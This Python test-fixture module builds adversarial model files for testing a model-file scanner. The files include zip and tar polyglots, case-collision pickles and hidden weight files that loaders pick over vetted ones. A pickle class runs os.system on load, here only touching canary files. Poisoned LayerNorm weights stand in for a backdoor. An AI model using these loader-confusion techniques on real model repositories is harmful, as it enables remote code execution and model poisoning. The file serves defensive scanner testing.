"""Files that read one way to the stage and another way to the loader a serving host runs: torch's zip
reader (miniz), Python's zipfile, transformers' choice of weights file, peft.

Each builder writes a real file (or folder) from a real benign save; hostile payloads create a file in
the canary folder when the stock loader runs them. tests/unit/test_scan_differentials.py proves each
mechanism on the stock loader first, then shows the stage refuses it.
"""

from __future__ import annotations

import io
import json
import pickle
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import torch

CD_SIG, EOCD_SIG, LOCAL_SIG = b"PK\x01\x02", b"PK\x05\x06", b"PK\x03\x04"


class _System:
    """Pickles as ``os.system(cmd)`` (what any pickle-based loader would call on load)."""

    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self):
        import os

        return (os.system, (self.cmd,))


def _linear_zip() -> bytes:
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), buf)
    return buf.getvalue()


def _cd_records(data: bytes) -> tuple[int, list[bytes]]:
    """(offset of the end record, the central directory's records as written) of a torch-written zip."""
    eocd = data.rfind(EOCD_SIG)
    n, cd_size, cd_off = struct.unpack_from("<HII", data, eocd + 10)
    records, i = [], cd_off
    for _ in range(n):
        nlen, elen, clen = struct.unpack_from("<HHH", data, i + 28)
        records.append(data[i:i + 46 + nlen + elen + clen])
        i += 46 + nlen + elen + clen
    return eocd, records


def eocd_in_comment(dest: Path, canary: Path) -> Path:
    """A benign torch.save archive whose zip comment carries a second archive: a local header with a
    ``data.pkl`` that runs ``os.system``, a central directory naming it (and the benign storage records),
    and an end record that does not end the file (two bytes follow it). miniz and zipfile take the last
    end-of-central-directory signature; a reader that wants the end record to end the file exactly falls
    back to the real one, whose comment spans the rest."""
    data = _linear_zip()
    eocd, records = _cd_records(data)
    evil = pickle.dumps(_System(f"touch {canary / 'eocd'}"), protocol=2)
    name = records[0][46:46 + struct.unpack_from("<H", records[0], 28)[0]]
    assert name.endswith(b"/data.pkl"), name
    base = eocd + 22  # the comment starts after the real end record (torch writes no comment)
    local = struct.pack("<4sHHHHHIIIHH", LOCAL_SIG, 20, 0, 0, 0, 0x21, zlib.crc32(evil), len(evil), len(evil),
                        len(name), 0) + name + evil
    first = bytearray(records[0][:46 + len(name)])
    struct.pack_into("<IIIHH", first, 16, zlib.crc32(evil), len(evil), len(evil), len(name), 0)
    struct.pack_into("<I", first, 42, base)
    cd = bytes(first) + b"".join(records[1:])
    cd_off = base + len(local)
    end = struct.pack("<4sHHHHIIH", EOCD_SIG, 0, 0, len(records), len(records), len(cd), cd_off, 0)
    comment = local + cd + end + b"\r\n"
    out = data[:eocd + 20] + struct.pack("<H", len(comment)) + comment
    dest.write_bytes(out)
    return dest


def _rewrite(data: bytes, rename: dict[str, str] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n in src.namelist():
            z.writestr((rename or {}).get(n, n), src.read(n))
        for n, b in (add or {}).items():
            z.writestr(n, b)
    return out.getvalue()


def record_in_other_case(dest: Path) -> Path:
    """``archive/Data.Pkl`` instead of ``archive/data.pkl``: torch.load finds it (miniz ignores ASCII case),
    an exact-name reader sees no torch layout."""
    data = _linear_zip()
    prefix = zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]
    dest.write_bytes(_rewrite(data, rename={f"{prefix}/data.pkl": f"{prefix}/Data.Pkl"}))
    return dest


def two_records_one_name(dest: Path, canary: Path) -> Path:
    """``archive/data.pkl`` and ``archive/DATA.PKL`` (a payload): one name to torch."""
    data = _linear_zip()
    prefix = zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]
    evil = pickle.dumps(_System(f"touch {canary / 'case'}"), protocol=2)
    dest.write_bytes(_rewrite(data, add={f"{prefix}/DATA.PKL": evil}))
    return dest


# -- Hugging Face folders: which copy of the weights is served ---------------------------------------


def _poison(state: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    """The same weights but one LayerNorm scaled: a backdoor needs no NaN and no new tensor."""
    out = dict(state)
    key = "transformer.h.0.ln_1.weight"
    out[key] = torch.full_like(out[key], 7.0)
    return out


def single_beside_shards(d: Path) -> Path:
    """Benign shards with their index, and a poisoned ``model.safetensors``: from_pretrained loads the
    single file (it wins over the index); the stage validated the shards (they sort first)."""
    from safetensors.torch import save_file

    from tests.corpus.hf_cases import gpt2_model

    m = gpt2_model()
    m.save_pretrained(d, max_shard_size="20KB")
    save_file(_poison({k: v.contiguous() for k, v in m.state_dict().items() if k != "lm_head.weight"}),
              str(d / "model.safetensors"), metadata={"format": "pt"})
    return d


def variant_beside_main(d: Path) -> Path:
    """``model.fp16.safetensors`` (benign, sorts first) beside a poisoned ``model.safetensors`` (what
    from_pretrained loads without ``variant=``)."""
    from safetensors.torch import load_file, save_file

    from tests.corpus.hf_cases import gpt2_folder

    gpt2_folder(d)
    shutil.copy(d / "model.safetensors", d / "model.fp16.safetensors")
    save_file(_poison(load_file(str(d / "model.safetensors"))), str(d / "model.safetensors"),
              metadata={"format": "pt"})
    return d


def bin_beside_safetensors(d: Path, *, shape: bool = False) -> Path:
    """A ``pytorch_model.bin`` beside ``model.safetensors`` holding other values (or another shape):
    what a host with ``use_safetensors=False`` (or an older stack) serves."""
    from safetensors.torch import load_file

    from tests.corpus.hf_cases import gpt2_folder

    gpt2_folder(d)
    state = load_file(str(d / "model.safetensors"))
    if shape:
        state["transformer.h.0.ln_1.weight"] = torch.ones(32)
    else:
        state = _poison(state)
    torch.save(state, d / "pytorch_model.bin")
    return d


def benign_copies(d: Path) -> Path:
    """The legitimate siblings: ``pytorch_model.bin`` with the same tensors, and an fp16 variant."""
    from safetensors.torch import load_file

    from tests.corpus.hf_cases import gpt2_model

    m = gpt2_model()
    m.save_pretrained(d)
    m.half().save_pretrained(d, variant="fp16")
    torch.save(load_file(str(d / "model.safetensors")), d / "pytorch_model.bin")
    return d


def peft_adapter(d: Path, *, alone: bool = False) -> Path:
    """A model folder with a PEFT ``adapter_config.json``: with peft installed from_pretrained applies the
    adapter on top of the folder's model, or (``alone``: no config.json) loads ``base_model_name_or_path``
    from anywhere and the adapter on top."""
    from tests.corpus.hf_cases import gpt2_folder

    gpt2_folder(d)
    if alone:
        (d / "config.json").unlink()
        (d / "model.safetensors").rename(d / "adapter_model.safetensors")
    (d / "adapter_config.json").write_text(json.dumps({
        "base_model_name_or_path": "attacker/unvetted-base", "peft_type": "LORA", "task_type": "CAUSAL_LM",
        "r": 2, "lora_alpha": 4, "target_modules": ["c_attn"]}))
    return d


def explicit_weights_file(d: Path) -> Path:
    """``transformers_weights`` in config.json (save_pretrained never writes it) makes from_pretrained load
    the file it names instead of ``model.safetensors``: here a poisoned copy that sorts after it."""
    from safetensors.torch import load_file, save_file

    from tests.corpus.hf_cases import gpt2_folder

    gpt2_folder(d)
    save_file(_poison(load_file(str(d / "model.safetensors"))), str(d / "zz-finetuned.safetensors"),
              metadata={"format": "pt"})
    doc = json.loads((d / "config.json").read_text())
    doc["transformers_weights"] = "zz-finetuned.safetensors"
    (d / "config.json").write_text(json.dumps(doc))
    return d


def storages_out_of_order(dest: Path) -> Path:
    """torch's own writer, storages written 0, 2, 1 while data.pkl uses them 0, 1, 2 (same sizes): every
    reader of the central directory gets a, b, c; ``torch.load(mmap=True)`` with
    ``calculate_storage_offsets`` computes the offsets in pickle order and serves b and c swapped."""
    buf = io.BytesIO()
    torch.save({k: torch.full((4,), v) for k, v in (("a", 1.0), ("b", 2.0), ("c", 3.0))}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    prefix = src.namelist()[0].split("/")[0]
    records = {n[len(prefix) + 1:]: src.read(n) for n in src.namelist()}
    writer = torch._C.PyTorchFileWriter(str(dest))
    order = ["data.pkl", "data/0", "data/2", "data/1"]
    for rec in order + [r for r in records if r not in order and r != ".data/serialization_id"]:
        writer.write_record(rec, records[rec], len(records[rec]))
    writer.write_end_of_file()
    return dest


def _legacy_head(sys_info_pad: str) -> bytes:
    """The first three streams of a legacy torch file (magic, protocol version, sys_info), with
    ``sys_info_pad`` as an extra sys_info value (torch reads only the keys it knows)."""
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    proto = b"\x80\x02M\xe9\x03."

    def su(s: str) -> bytes:
        b = s.encode()
        return b"X" + struct.pack("<I", len(b)) + b

    return magic + proto + (b"\x80\x02}(" + su("pad") + su(sys_info_pad) + su("protocol_version") + b"M\xe9\x03"
                            + su("little_endian") + b"\x88" + su("type_sizes") + b"}(" + su("short") + b"K\x02"
                            + su("int") + b"K\x04" + su("long") + b"K\x08uu.")


def _legacy_tail(nbytes: int) -> bytes:
    """The data pickle and key list of a real legacy torch.save of one uint8 tensor of ``nbytes``, and the
    storage's element count (its raw bytes follow)."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(nbytes, dtype=torch.uint8)}, buf, _use_new_zipfile_serialization=False)
    import pickletools

    f = io.BytesIO(buf.getvalue())
    ends = []
    for _ in range(5):
        for _op in pickletools.genops(f):  # walks one stream to its STOP without running it
            pass
        ends.append(f.tell())
    return buf.getvalue()[ends[2]:ends[4] + 8]


def legacy_torch_tar(dest: Path, canary: Path) -> Path:
    """A legacy torch.save file (five pickle streams, raw storages) that is also a tar archive: its first 512
    bytes are a valid tar header (the fields sit in a string of sys_info), and a member ``storages`` holding a
    payload pickle lies inside the raw bytes of a uint8 storage. torch.load tries tar before the legacy
    streams: with weights_only=False (MLflow's pickle flavor) it unpickles that member."""
    probe = _legacy_head("")
    start = probe.index(b"X\x00\x00\x00\x00") + 5  # where the pad string's content begins
    head = _legacy_head("\x00" * (512 - start))
    block = bytearray(head[:512])
    for off, text in ((100, b"0000644\x00"), (108, b"0000000\x00"), (116, b"0000000\x00"),
                      (136, b"00000000000\x00"), (156, b"0"), (257, b"ustar\x0000")):
        block[off:off + len(text)] = text
    evil = pickle.dumps(_System(f"touch {canary / 'tar'}"), protocol=0)
    member = _tar_header("storages", len(evil)) + evil + b"\x00" * (-len(evil) % 512) + b"\x00" * 1024
    nbytes = 512 * 4 + len(member)
    tail = _legacy_tail(nbytes)
    body_len = len(head) + len(tail)
    at = -(-body_len // 512) * 512  # the first block boundary inside the storage's bytes
    block[124:136] = b"%011o\x00" % (at - 512)
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\x00 " % sum(block)
    head = _legacy_head(bytes(block[start:]).decode("ascii"))
    raw = b"\x00" * (at - body_len) + member
    dest.write_bytes(head + tail + raw + b"\x00" * (nbytes - len(raw)))
    return dest


def _tar_header(name: str, size: int) -> bytes:
    import tarfile

    info = tarfile.TarInfo(name)
    info.size, info.mtime = size, 0
    return info.tobuf(format=tarfile.USTAR_FORMAT)
